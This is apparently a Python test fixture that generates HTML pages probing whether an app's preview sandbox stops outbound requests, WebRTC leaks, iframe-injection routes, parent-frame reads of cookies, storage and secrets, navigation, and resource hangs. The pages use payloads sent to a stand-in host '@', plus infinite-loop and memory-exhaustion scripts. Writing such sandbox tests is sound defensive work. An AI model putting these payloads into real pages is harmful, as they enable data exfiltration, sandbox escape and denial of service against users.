"""Pages that try to reach somebody from a preview: families of ways, each by several carriers. @ stands for somebody else's
server, ~ for the one whose socket takes datagrams, # for the app's own origin. What succeeds says REACHED on its console."""

# ruff: noqa: E501 (scripts of pages)
from __future__ import annotations

from html import escape
from json import dumps

FETCHES = {
    "fetch": 'await fetch("@/fetch")',
    "fetch_no_cors": 'await fetch("@/no-cors", { mode: "no-cors" })',
    "fetch_post": 'await fetch("@/post", { method: "POST", body: "words", keepalive: true, mode: "no-cors" })',
    "fetch_own": 'await fetch("#/glm_ui/trap", { mode: "no-cors", credentials: "include" })',
    "xhr": 'await new Promise((done, no) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = no; x.open("GET", "@/xhr"); x.send(); })',
    "socket": 'await new Promise((done, no) => { const s = new WebSocket("@/socket".replace("http", "ws")); s.onopen = done; s.onerror = no; })',
    "events": 'await new Promise((done, no) => { const s = new EventSource("@/events"); s.onopen = done; s.onerror = no; })',
    "module": 'await import("@/module.js")',
    "transport": 'await new WebTransport("@/transport".replace("http:", "https:")).ready',
    "database": 'await new Promise((done, no) => { const r = indexedDB.open("glm-ui"); r.onsuccess = done; r.onerror = no; })',
    "caches": 'await caches.open("x")',
    "files": "await navigator.storage.getDirectory()",
}
"""Work in a worker too."""

ACTS = {
    "beacon": 'navigator.sendBeacon("@/beacon", "words"); throw 0',
    "image": 'await new Promise((done, no) => { const i = new Image(); i.onload = done; i.onerror = no; i.src = "@/image.png"; })',
    "audio": 'await new Promise((done, no) => { const i = new Audio("@/audio.mp3"); i.oncanplay = done; i.onerror = no; })',
    "font": 'await new FontFace("x", "url(@/font.woff2)").load()',
    "worker": 'await new Promise((done, no) => { const w = new Worker("@/worker.js"); w.onmessage = done; w.onerror = no; })',
    "shared_worker": 'await new Promise((done, no) => { const w = new SharedWorker("@/shared.js"); w.onerror = no; w.port.onmessage = done; })',
    "own_worker": 'await new Promise((done, no) => { const w = new Worker("#/glm_ui/static/trap.js"); w.onmessage = done; w.onerror = no; })',
    "service_worker": 'await navigator.serviceWorker.register("#/glm_ui/static/trap.js")',
    "script": 'await new Promise((done, no) => { const s = document.createElement("script"); s.onload = done; s.onerror = no; s.src = "@/script.js"; document.head.append(s); })',
    "sheet": 'await new Promise((done, no) => { const s = document.createElement("link"); s.onload = done; s.onerror = no; s.rel = "stylesheet"; s.href = "@/sheet.css"; document.head.append(s); })',
    "hint": 'for (const rel of ["prefetch", "preload", "prerender", "modulepreload", "icon", "manifest"]) { const s = document.createElement("link"); s.rel = rel; s.as = "image"; s.href = `@/${rel}`; document.head.append(s); } throw 0',
    "rtc": 'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:~" }] }); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer())',
    "rtc_old": 'new webkitRTCPeerConnection({ iceServers: [{ urls: "stun:~" }] })',
    "rtc_frame": 'const f = document.createElement("iframe"); f.srcdoc = RTC; document.body.append(f)',
    "rtc_attribute": 'const f = document.createElement("iframe"); f.setAttribute("srcdoc", RTC); document.body.append(f)',
    "rtc_node": 'const f = document.createElement("iframe"), a = document.createAttribute("srcdoc"); a.value = RTC; f.setAttributeNode(a); document.body.append(f)',
    "rtc_other_document": 'const f = document.implementation.createHTMLDocument().createElement("iframe"); f.srcdoc = RTC; document.body.append(f)',
    "rtc_inner": "document.body.innerHTML += `<iframe srcdoc='${RTC}'></iframe>`; throw 0",
    "rtc_written": "document.write(`<iframe srcdoc='${RTC}'></iframe>`); throw 0",
    "rtc_parsed": "document.body.append(new DOMParser().parseFromString(`<iframe srcdoc='${RTC}'></iframe>`, 'text/html').body); throw 0",
    "rtc_range": "document.body.append(document.createRange().createContextualFragment(`<iframe srcdoc='${RTC}'></iframe>`)); throw 0",
    "rtc_unsafe": "document.body.setHTMLUnsafe(`<iframe srcdoc='${RTC}'></iframe>`); throw 0",
    "rtc_shadow": "document.body.attachShadow({ mode: 'closed' }).innerHTML = `<iframe srcdoc='${RTC}'></iframe>`; throw 0",
    "rtc_address": 'const f = document.createElement("iframe"); f.src = "javascript:" + RTC.replace(/<.?script>/g, ""); document.body.append(f); throw 0',
    "rtc_blob": 'const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob([RTC], { type: "text/html" })); document.body.append(f); throw 0',
    "rtc_policy": 'const p = trustedTypes.createPolicy("mine", { createHTML: (s) => s }); const f = document.createElement("iframe"); f.srcdoc = p.createHTML(RTC); document.body.append(f)',
    "rtc_blank": 'const f = document.createElement("iframe"); document.body.append(f); new f.contentWindow.RTCPeerConnection()',
    "rtc_custom": 'customElements.define("x-f", class extends HTMLIFrameElement {}, { extends: "iframe" }); const f = document.createElement("iframe", { is: "x-f" }); f.srcdoc = RTC; document.body.append(f)',
    "location": 'location = "@/location"; throw 0',
    "assign": 'location.assign("@/assign"); throw 0',
    "own_location": 'location.href = "#/glm_ui/trap"; throw 0',
    "click": 'const a = document.createElement("a"); a.href = "@/click"; a.ping = "@/ping"; document.body.append(a); a.click(); throw 0',
    "blank": 'const a = document.createElement("a"); a.href = "@/blank"; a.target = "_blank"; document.body.append(a); a.click(); throw 0',
    "top_click": 'const a = document.createElement("a"); a.href = "@/top"; a.target = "_top"; document.body.append(a); a.click(); throw 0',
    "download": 'const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.exe"; document.body.append(a); a.click(); throw 0',
    "open": 'if (!window.open("@/open")) throw 0',
    "open_blank": 'if (!window.open("about:blank")) throw 0',
    "form": 'const f = document.createElement("form"); f.action = "@/form"; document.body.append(f); f.submit(); throw 0',
    "form_post": 'const f = document.createElement("form"); f.action = "@/form"; f.method = "post"; f.target = "_top"; document.body.append(f); f.requestSubmit(); throw 0',
    "form_own": 'const f = document.createElement("form"); f.action = "#/glm_ui/trap"; f.method = "post"; document.body.append(f); f.submit(); throw 0',
    "top_location": 'top.location = "@/top"; throw 0',
    "parent_location": 'parent.location.href = "@/parent"; throw 0',
    "top_replace": 'top.location.replace("@/replace"); throw 0',
    "top_address": "String(top.location.href)",
    "parent_document": "parent.document.body.textContent",
    "top_document": "top.document.cookie",
    "top_key": 'top.localStorage.getItem("canary")',
    "top_global": "top.GLM.secret()",
    "top_eval": 'top.eval("1")',
    "parent_frames": "top.frames[0].document.body",
    "opener": "opener.document",
    "frame_element": "window.frameElement.ownerDocument.body",
    "domain": "document.domain = location.hostname || 'x'",
    "cookie": 'document.cookie = "a=b"; if (!document.cookie) throw 0',
    "cookie_store": 'await cookieStore.set("a", "b")',
    "back": "history.back(); history.go(-3); throw 0",
    "push": 'history.pushState(null, "", "@/push")',
    "own_page": "document.open(); document.write(\"<iframe src='#/'></iframe>\"); document.close(); throw 0",
    "credentials": "await navigator.credentials.get({ password: true, mediation: 'silent' }); throw 0",
    "place": "await new Promise((done, no) => navigator.geolocation.getCurrentPosition(done, no))",
    "clipboard": "await navigator.clipboard.readText()",
    "camera": "await navigator.mediaDevices.getUserMedia({ audio: true })",
    "screen": "await navigator.mediaDevices.getDisplayMedia()",
    "notice": "if ((await Notification.requestPermission()) !== 'granted') throw 0",
    "full": "await document.documentElement.requestFullscreen()",
    "picker": "await showOpenFilePicker()",
    "print": "print(); throw 0",
    "dialogs": "alert(1); confirm(2); prompt(3); throw 0",
    "leave": "onbeforeunload = (e) => (e.preventDefault(), 'stay'); location = '@/leave'; throw 0",
}

MARKUP = [
    *(
        f"<{tag}>"
        for tag in (
            'img src="@/img"',
            'img srcset="@/srcset 2x"',
            'img src="#/glm_ui/trap"',
            'picture><source srcset="@/source"><img',
            'video src="@/video" autoplay',
            'video poster="@/poster"',
            'audio src="@/audio" autoplay',
            'video><track src="@/track" default kind="captions"',
            'embed src="@/embed"',
            'object data="@/object"',
            'object data="#/"',
            'iframe src="@/iframe"',
            'iframe src="#/"',
            'iframe src="data:text/html,<img src=@/data>"',
            'iframe srcdoc="<img src=@/srcdoc>"',
            'frameset><frame src="@/frame"',
            'portal src="@/portal"',
            'fencedframe src="@/fenced"',
            'script src="@/script"></script',
            'script type="module" src="@/module"></script',
            'script type="module">import "@/static"</script',
            'script type="importmap">{"imports": {"x": "@/map"}}</script><script type="module">import "x"</script',
            'script type="speculationrules">{"prefetch": [{"urls": ["@/rules"]}], "prerender": [{"urls": ["@/rules"]}]}</script',
            'link rel="stylesheet" href="@/sheet"',
            'link rel="preload" as="image" href="@/preload"',
            'link rel="prefetch" href="@/prefetch"',
            'link rel="prerender" href="@/prerender"',
            'link rel="modulepreload" href="@/modulepreload"',
            'link rel="icon" href="@/icon"',
            'link rel="manifest" href="@/manifest"',
            'link rel="preconnect" href="@"',
            'link rel="dns-prefetch" href="@"',
            'link rel=search type="application/opensearchdescription+xml" href="@/search"',
            'meta http-equiv="refresh" content="0; url=@/refresh"',
            'meta http-equiv="refresh" content="0; url=#/glm_ui/trap"',
            'meta http-equiv="Content-Security-Policy" content="default-src *; report-uri @/report"><img src="@/allowed"',
            'meta http-equiv="Content-Security-Policy" content="upgrade-insecure-requests; img-src @ *"><img src="@/upgraded"',
            'base href="@/"><img src="relative"',
            'base href="@/" target="_top"><a id="a" href="x">x</a><script>a.click()</script',
            'body background="@/background"',
            'table background="@/background"><td background="@/cell"',
            'input type="image" src="@/input"',
            'form action="@/auto"><input name="a" value="b"><button id="s" formaction="@/formaction">x</button></form><script>s.click()</script',
            'a href="@/x" ping="@/ping" id="p">x</a><script>p.click()</script',
            'a href="@/x" attributionsrc="@/source" id="q">x</a><script>q.click()</script',
            'img src="data:," attributionsrc="@/attribution"',
            'html manifest="@/cache"',
            'template shadowrootmode="open"><img src="@/shadow"></template',
            'div><template shadowrootmode="closed"><iframe srcdoc="<img src=@/closed>"></iframe></template></div',
            'math><mtext href="@/math">x</mtext></math',
            'noscript><img src="@/noscript"></noscript',
            "svg><image href='@/image'/></svg",
            "svg><use href='@/use.svg#a'/></svg",
            "svg><script href='@/script'></script></svg",
            "svg><feImage href='@/fe'/></svg",
            "svg><style>@import '@/svg-import';</style></svg",
            "svg><a href='@/a'><text y='20'>x</text></a><animate attributeName='href' to='@/animate'/></svg",
            "svg><foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='@/foreign'/></foreignObject></svg",
            "svg><foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='@/foreign-frame'></iframe></foreignObject></svg",
            "?xml-stylesheet href='@/xsl'?><svg><rect/></svg",
        )
    ),
    *(
        f"<style>{rule}</style><p class=x>x</p><ul><li>x</ul>"
        for rule in (
            "@import url(@/import);",
            "@import '@/import-layer' layer(x);",
            "body { background: url(@/background) }",
            "li { list-style: url(@/list) }",
            "* { cursor: url(@/cursor), auto }",
            "p::before { content: url(@/content) }",
            "p { border-image: url(@/border) 1 }",
            "p { mask: url(@/mask.svg#a); filter: url(@/filter.svg#a); clip-path: url(@/clip.svg#a) }",
            "p { shape-outside: url(@/shape); float: left }",
            "p { background: image-set('@/set' 1x) }",
            "p { background: -webkit-cross-fade(url(@/fade), url(@/fade2), 50%) }",
            "@font-face { font-family: y; src: url(@/face) } p { font-family: y }",
            "@namespace url(@/namespace);",
            "@property --x { syntax: '<url>'; inherits: false; initial-value: url(@/property) } p { background: var(--x) }",
        )
    ),
]

HARMS = {
    "loop": "for (;;);",
    "loop_later": "setTimeout(() => { for (;;); }, 20);",
    "frames": "requestAnimationFrame(function again() { const end = performance.now() + 500; while (performance.now() < end); requestAnimationFrame(again); });",
    "microtasks": "(function again() { Promise.resolve().then(again); })();",
    "console": "for (let n = 0; n < 50000; n++) console.log('x'.repeat(9000));",
    "errors": "setInterval(() => { for (let n = 0; n < 100; n++) setTimeout(() => { throw new Error('x'); }); }, 1);",
    "nodes": "for (let n = 0; n < 300000; n++) document.body.append(document.createElement('p'));",
    "deep": "let at = document.body; for (let n = 0; n < 20000; n++) at = at.appendChild(document.createElement('div'));",
    "workers": "for (let n = 0; n < 4; n++) new Worker(URL.createObjectURL(new Blob(['for (;;);'])));",
    "parent_messages": "for (let n = 0; n < 20000; n++) parent.postMessage({ kind: 'line', level: 'log', text: 'x' }, '*');",
    "forged": "parent.postMessage({ kind: 'line', level: {}, text: { toString() {} } }, '*'); parent.postMessage({ kind: 'scroll', x: 'a', y: NaN }, '*'); parent.postMessage(null, '*');",
    "replaced": "document.open(); document.write('<p>gone'); document.close();",
    "memory": "const all = []; for (let n = 0; n < 100; n++) all.push(new Uint8Array(1e6).fill(1));",
}
"""They reach nobody by design; the page must live on beside them."""

_RTC = "<script>const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:~` }] }); c.createDataChannel(`x`); c.createOffer().then((o) => c.setLocalDescription(o))</script>"


def attempt(name: str, code: str) -> str:
    """A script that tries, and says how it went."""
    rtc = dumps(_RTC).replace("</", "<\\/")
    return f"(async () => {{ const RTC = {rtc}; try {{ {code.replace('</', '<' + chr(92) + '/')}; console.log('REACHED {name}') }} catch {{}} console.log('done') }})()"


def carried(name: str, code: str) -> dict[str, str]:
    """The same script by each carrier."""
    script = attempt(name, code)
    return {
        f"{name} in a script": f"<!doctype html><title>{name}</title><body><script>{script}</script>",
        f"{name} in a handler": f'<body><img src="data:," onerror="{escape(script)}">',
        f"{name} in a drawing": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{escape(script)}"><rect width="9" height="9"/></svg>',
    }


def in_a_worker(name: str, code: str) -> str:
    source = dumps(f"{attempt(name, code).replace('console.log', 'postMessage')}").replace("</", "<\\/")
    return f"<body><script>const w = new Worker(URL.createObjectURL(new Blob([{source}]))); w.onmessage = ({{ data }}) => console.log(data)</script>"


def pages() -> dict[str, str]:
    """All by name. Each says "done" when it has tried, but those of HARMS."""
    found: dict[str, str] = {}
    for name, code in {**FETCHES, **ACTS}.items():
        found |= carried(name, code)
    for name, code in FETCHES.items():
        found[f"{name} in a worker"] = in_a_worker(name, code)
    for i, markup in enumerate(MARKUP):
        found[f"markup {i}: {markup[:60]}"] = f"<body>{markup}<p>after</p>" + (
            "<script>console.log('done')</script>"
        )
    return found


def harms() -> dict[str, str]:
    return {name: f"<body><script>console.log('done');{code}</script>" for name, code in HARMS.items()}
